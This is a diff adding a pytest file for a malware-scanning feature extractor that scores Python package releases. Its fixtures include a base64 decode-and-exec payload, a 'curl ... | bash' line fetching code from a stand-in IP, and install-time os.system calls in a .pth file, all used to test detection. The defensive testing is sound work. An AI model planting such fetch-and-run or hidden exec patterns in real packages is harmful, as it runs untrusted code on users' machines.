@@ -1,0 +1,172 @@
+"""The code group over whole releases."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from features.contract import Dtype, GroupRow, Kind, Member, Release, Role, Sort
+from features.groups.code import CodeGroup
+from features.indicators import INDICATORS
+
+GROUP = CodeGroup()
+INNER = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=="
+PAYLOAD = f"import base64\nexec(base64.b64decode('{INNER}'))\n"
+BENIGN = "import json\n\n\ndef load(path):\n    with open(path) as stream:\n        return json.load(stream)\n" * 20
+
+
+def member(path: str, text: str | bytes, role: Role = Role.REST, sort: Sort = Sort.PYTHON, **more: object) -> Member:
+    data = text.encode() if isinstance(text, str) else text
+    return Member(path, len(data), sort, role, data=data, head=data[:4096], **more)  # type: ignore[arg-type]
+
+
+def extract(*members: Member, deadline: float = float("inf")) -> GroupRow:
+    return GROUP.extract(Release("a-1.tar.gz", "a", "1", Kind.SDIST, "tar", 1, members, root="a-1/", deadline=deadline))
+
+
+def check(row: GroupRow) -> None:
+    assert tuple(row.values) == tuple(column.name for column in GROUP.columns)
+    for column in GROUP.columns:
+        value = row.values[column.name]
+        assert type(value) is (float if column.dtype is Dtype.FLOAT32 else int), column.name
+        assert -(2**31) <= value < 2**31
+
+
+def test_columns_are_named_once_and_said_in_words():
+    names = [column.name for column in GROUP.columns]
+    assert len(names) == len(set(names))
+    assert all(name.startswith("code_") for name in names)
+    assert all(len(column.meaning.split()) >= 3 for column in GROUP.columns)
+    for indicator in INDICATORS:
+        assert {f"code_{role}_{indicator.id}" for role in Role} <= set(names)
+
+
+def test_an_empty_release_has_zeros_and_no_tokens():
+    row = extract()
+    check(row)
+    assert not any(row.values.values())
+    assert (row.tokens, row.evidence, row.limits) == ((), (), ())
+
+
+@pytest.mark.parametrize("role", list(Role))
+def test_place_is_meaning(role):
+    row = extract(member("a-1/x.py", PAYLOAD, role))
+    check(row)
+    assert row.values[f"code_{role}_category_execution"] >= 1
+    assert row.values[f"code_{role}_combo_encoding_execution"] == 1
+    assert row.values[f"code_{role}_finding_decode_then_execute"] == 1
+    assert row.values[f"code_{role}_unpacked_layers"] == 1
+    for other in set(Role) - {role}:
+        assert not any(value for name, value in row.values.items() if name.startswith(f"code_{other}_"))
+
+
+def test_the_payload_line_is_the_first_evidence():
+    benign = [member(f"a-1/a/m{n}.py", BENIGN) for n in range(30)]
+    row = extract(*benign, member("a-1/a/deep/inside.py", BENIGN + PAYLOAD))
+    first = row.evidence[0]
+    assert (first.member, first.line) == ("a-1/a/deep/inside.py", 122)
+    assert "b64decode" in first.excerpt
+
+
+def test_one_bad_file_does_not_drown():
+    benign = [member(f"a-1/a/m{n}.py", BENIGN) for n in range(100)]
+    clean, mixed = extract(*benign), extract(*benign, member("a-1/a/x.py", PAYLOAD))
+    assert clean.values["code_top_isolation"] == 0
+    assert mixed.values["code_top_isolation"] > 3
+    assert mixed.values["code_top_share"] == 1
+    assert mixed.values["code_rest_top_size_share"] < 0.02
+
+
+def test_tests_and_documentation_weigh_less_and_count():
+    inside, aside = extract(member("a-1/a/x.py", PAYLOAD)), extract(member("a-1/tests/x.py", PAYLOAD))
+    assert aside.values["code_top_weight"] == inside.values["code_top_weight"] > 0
+    assert aside.values["code_top_weight_main"] == 0
+    assert aside.evidence[0].weight < inside.evidence[0].weight
+
+
+def test_install_weighs_more_than_import_than_rest():
+    weights = [extract(member("a-1/x.py", PAYLOAD, role)).evidence[0].weight for role in Role]
+    assert weights == sorted(weights, reverse=True)
+    assert len(set(weights)) == 3
+
+
+def test_prose_is_no_code():
+    row = extract(member("a-1/README.md", PAYLOAD, sort=Sort.TEXT))
+    assert row.values["code_source_files"] == 0
+    assert row.values["code_prose_category_execution"] >= 1
+    assert row.values["code_rest_category_execution"] == 0
+
+
+def test_text_that_setup_reads_is_code():
+    row = extract(member("a-1/README.md", PAYLOAD, Role.INSTALL, Sort.TEXT))
+    assert row.values["code_install_finding_decode_then_execute"] == 1
+    assert row.values["code_prose_files"] == 0
+
+
+def test_scripts_have_their_own_place():
+    row = extract(member("a-1/x.sh", "curl -s http://192.0.2.1/a | bash\n", sort=Sort.TEXT))
+    assert row.values["code_text_files"] == 1
+    assert row.values["code_text_top_weight"] > 0
+    assert row.evidence[0].member == "a-1/x.sh"
+
+
+def test_only_import_lines_of_a_path_file_run():
+    runs = extract(member("a-1/x.pth", "/opt/lib\nimport os; os.system('id')\n", Role.INSTALL, Sort.PTH))
+    rests = extract(member("a-1/x.pth", "/opt/lib\nos.system('id')\n", Role.INSTALL, Sort.PTH))
+    assert runs.values["code_install_finding_install_time_process"] == 1
+    assert rests.values["code_install_finding_install_time_process"] == 0
+    assert {e.line for e in runs.evidence} == {2}
+
+
+def test_modules_without_indicators_are_not_read_by_their_syntax():
+    row = extract(member("a-1/a/m.py", BENIGN), member("a-1/a/__init__.py", BENIGN, Role.IMPORT))
+    assert row.values["code_rest_syntax_files"] == 0
+    assert row.values["code_import_syntax_files"] == 1
+
+
+def test_a_deadline_is_a_limit():
+    row = extract(member("a-1/setup.py", PAYLOAD, Role.INSTALL), deadline=0)
+    check(row)
+    assert row.limits == ("seconds",)
+    assert row.values["code_not_examined"] == 1
+
+
+def test_too_much_source_is_a_limit():
+    big = "x = 1\n" * 170_000
+    row = extract(*(member(f"a-1/m{n}.py", big, Role.IMPORT) for n in range(9)))
+    assert "syntax_total_bytes" in row.limits
+    assert row.values["code_not_read"] >= 1
+
+
+@pytest.mark.parametrize("data", ["exec(1)".encode("utf-16"), b"# coding: utf-7\nexec(1)"])
+def test_odd_encodings_are_counted(data):
+    row = extract(member("a-1/setup.py", data, Role.INSTALL))
+    assert row.values["code_bad_encoding"] == 1
+    assert row.values["code_install_call_execute_code"] == 1
+
+
+def test_evidence_is_bounded_and_ordered():
+    lines = "\n".join(f"import os\nos.system('echo {n} | bash')" for n in range(200))
+    row = extract(*(member(f"a-1/m{n}.py", lines, Role.IMPORT) for n in range(4)))
+    weights = [e.weight for e in row.evidence]
+    assert weights == sorted(weights, reverse=True)
+    assert len(row.evidence) == 24
+    assert all(len(e.excerpt) <= 200 for e in row.evidence)
+
+
+def test_counts_are_capped():
+    row = extract(member("a-1/setup.py", "import os\n" + "os.system('x')\n" * 5000, Role.INSTALL))
+    assert 0 < row.values["code_install_os_system"] <= 255
+
+
+def test_tokens_of_what_is_interesting_come_first():
+    plain = member("a-1/a/m.py", BENIGN)
+    assert extract(plain).tokens != ()
+    assert extract(plain, member("a-1/a/x.py", PAYLOAD)).tokens == extract(member("a-1/a/x.py", PAYLOAD)).tokens
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(st.tuples(st.binary(max_size=200), st.sampled_from(list(Role)), st.sampled_from(list(Sort))), max_size=4)
+)
+def test_any_release_has_a_row(files):
+    check(extract(*(member(f"a-1/f{n}", data, role, sort) for n, (data, role, sort) in enumerate(files))))
